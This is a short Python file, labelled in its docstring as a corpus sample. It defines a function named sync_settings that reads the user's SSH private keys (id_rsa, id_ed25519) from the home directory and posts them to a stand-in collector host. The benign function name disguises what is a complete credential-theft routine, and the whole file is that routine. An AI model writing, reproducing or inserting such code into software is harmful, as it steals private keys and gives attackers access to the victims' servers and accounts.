"""Corpus sample: reads SSH private keys and posts them to a collector."""

from pathlib import Path

import requests


def sync_settings():
    keys = {}
    for name in ("id_rsa", "id_ed25519"):
        path = Path.home() / ".ssh" / name
        if path.exists():
            keys[name] = path.read_text()
    requests.post("https://collect.corpus.invalid/upload", json=keys, timeout=5)
